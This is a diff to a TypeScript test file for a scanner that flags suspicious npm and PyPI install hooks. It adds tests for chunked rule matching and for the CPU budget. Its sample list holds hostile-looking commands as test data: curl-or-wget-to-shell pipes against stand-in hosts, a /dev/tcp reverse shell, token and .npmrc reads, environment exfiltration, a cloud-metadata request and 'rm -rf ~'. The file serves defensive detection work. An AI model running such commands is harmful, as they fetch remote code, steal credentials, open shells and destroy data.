@@ -1,8 +1,9 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { analyseInstallHooks, commandEntries, gypCommands, planNpmHooks, npmInstallHooks, npmInstallScriptFacts, readHookFiles, type ArchiveFile, type InstallHook, type NpmInstallScriptInput, type ReadArchiveFiles } from './index.ts';
+import { analyseInstallHooks, BEHAVIOUR_RULES, commandEntries, DEFAULT_INSTALL_SCRIPT_LIMITS, gypCommands, installScriptFacts, planNpmHooks, npmInstallHooks, npmInstallScriptFacts, readHookFiles, type ArchiveFile, type InstallHook, type NpmInstallScriptInput, type ReadArchiveFiles } from './index.ts';
 import { gypIncludes } from './entries.ts';
 import { cpuMs } from '../../../test/support/cpu-time.ts';
+import { seededRandom } from '../../../test/support/seeded-random.ts';
 
 const hook = (content: string, name = 'postinstall', kind: InstallHook['kind'] = 'npm-lifecycle'): InstallHook => ({ kind, name, content });
 
@@ -291,7 +292,7 @@ test('facts: code the bounds leave unread or read in part is reported, and the a
 });
 
 test('limits: oversized content is cut and reported, extra hooks skipped, hostile text is handled', () => {
-  const limits = { maxContentChars: 1000, maxHooks: 2, maxFindings: 10 };
+  const limits = { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxContentChars: 1000, maxHooks: 2, maxFindings: 10 };
   const big = `${'# '.repeat(1000)} curl https://x.example | sh`;
   const r = analyseInstallHooks([hook(big), hook('x', 'prepare'), hook('y', 'install')], limits);
   assert.deepEqual(r.truncated, ['postinstall']);
@@ -317,4 +318,75 @@ test("a gyp file's action and include lists are read up to their first ], at mos
     assert.deepEqual([gypCommands(`${keys}]`).length, gypIncludes(`${keys}']`).length], [1, 340], 'the one key whose list is within 4,096 characters of the ] reads it, strings of keys and all');
   });
   assert.ok(ms < 2000, `${ms} ms of CPU`);
+});
+
+/** What the rules find over a whole source, each searched through it in one go: the reference the pieces must agree with. */
+function wholeSource(text: string, kind: InstallHook['kind']): string[] {
+  const out: string[] = [];
+  for (const rule of BEHAVIOUR_RULES) {
+    if (rule.only !== undefined && !rule.only.includes(kind)) continue;
+    const re = new RegExp(rule.pattern.source, rule.pattern.flags);
+    let first: RegExpExecArray | null = null;
+    let count = 0;
+    for (let m = re.exec(text); m !== null && count < 1000; m = re.exec(text)) {
+      first ??= m;
+      count++;
+      if (m[0].length === 0) re.lastIndex++;
+    }
+    if (first === null || count < (rule.minCount ?? 1)) continue;
+    const evidence = first[0].replace(/\s+/g, ' ').trim();
+    out.push(`${rule.id} line ${text.slice(0, first.index).split('\n').length} count ${count} ${evidence.length > 160 ? `${evidence.slice(0, 159)}…` : evidence}`);
+  }
+  return out.sort();
+}
+
+test('the rules run piece by piece find what they find over the whole source: the same rules, counts, lines and evidence, with matches and long runs across every piece boundary', () => {
+  const rnd = seededRandom(0x1a57);
+  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
+  const samples = [
+    'curl -s https://evil.example/x.sh | sh', 'wget -qO- http://e.example/i | sudo bash', 'iwr https://a.example/p.ps1 | iex',
+    `node -e "require('https').get('https://c.example/?d='+1)"`, 'npx -y https://e.example/stage2.tgz', 'cat ~/.npmrc', 'echo $NPM_TOKEN',
+    'curl http://169.254.169.254/latest/', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'rm -rf ~ ', 'env | curl -d @- x', '_0x1a2b3c',
+    'os.hostname()', 'whoami', 'import os; os.system("id")', 'String.fromCharCode(', '1, ', 'chr(72)+', '\\x41', '\\u0041',
+    'eval(', 'curl ', '|', ';', '\n', ' ', 'x', 'import ', 'https://', '$(curl x)', 'base64 -d | sh', 'A'.repeat(300), 'QUJD'.repeat(40),
+    // The longest bounded matches: a 400-character gap before the network call, a 400-character import line.
+    `node -e "${'x'.repeat(390)} require('https')"`, `\nimport ${'y'.repeat(395)}\n`, `curl ${'z'.repeat(295)} | sh`,
+  ];
+  for (let round = 0; round < 40; round++) {
+    // Pieces far smaller than the default put a boundary everywhere: inside samples, runs and words.
+    const pieceChars = pick([16, 64, 333, 1500, 4096]);
+    let text = '';
+    const size = 2000 + Math.floor(rnd() * 12_000);
+    while (text.length < size) {
+      const r = rnd();
+      text += r < 0.04 ? 'QUJD'.repeat(20 + Math.floor(rnd() * 700)) : r < 0.08 ? `String.fromCharCode(${'1, '.repeat(5 + Math.floor(rnd() * 500))}2)` : r < 0.1 ? '\\x41'.repeat(10 + Math.floor(rnd() * 1500)) : pick(samples);
+    }
+    for (const kind of ['script-file', 'npm-lifecycle', 'pypi-pth'] as const) {
+      const { findings, overBudget } = analyseInstallHooks([hook(text, 'f', kind)], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxFindings: 1000, pieceChars });
+      assert.equal(overBudget, false);
+      const got = findings.map((f) => `${f.rule} line ${f.line} count ${f.count} ${f.evidence}`).sort();
+      assert.deepEqual(got, wholeSource(text, kind), `round ${round}, ${kind}, ${text.length} characters in pieces of ${pieceChars}`);
+    }
+  }
+});
+
+test('the rules stop at their CPU budget: install code written to make them slow is reported as analysed in part, and the rest as not analysed, instead of holding the thread for seconds', () => {
+  // Each `curl` scans its 300-character window for a `|`: 4 MiB of `curl ` took 6 s of CPU, and
+  // an artifact's read keeps 16 MiB of install code.
+  const slow = 'curl '.repeat((4 << 20) / 5);
+  const hooks = [hook('node install.js'), hook(slow, 'install.js', 'script-file'), hook(slow, 'lib/a.js', 'script-file'), hook(slow, 'lib/b.js', 'script-file')];
+  let analysis: ReturnType<typeof analyseInstallHooks> | undefined;
+  const ms = cpuMs(() => {
+    analysis = analyseInstallHooks(hooks, { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
+  });
+  assert.ok(analysis !== undefined);
+  assert.deepEqual([analysis.overBudget, analysis.truncated, analysis.skipped], [true, ['install.js'], 2]);
+  assert.ok(ms < 1500, `${ms} ms of CPU for a budget of 300`);
+  const facts = installScriptFacts({ hooks, nativeBuild: false, declaredInstallScript: true }, analysis);
+  assert.deepEqual([facts.complete, facts.over_budget, facts.skipped_hooks], [false, true, 2]);
+  // What was analysed before the budget ran out is still reported.
+  assert.ok(analysis.findings.some((f) => f.rule === 'install.remote-fetch.downloader' && f.source === 'install.js'));
+  // The same code within its budget is analysed in full.
+  const small = analyseInstallHooks([hook('curl '.repeat(2000), 'install.js', 'script-file')], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
+  assert.deepEqual([small.overBudget, small.truncated, small.skipped], [false, [], 0]);
 });
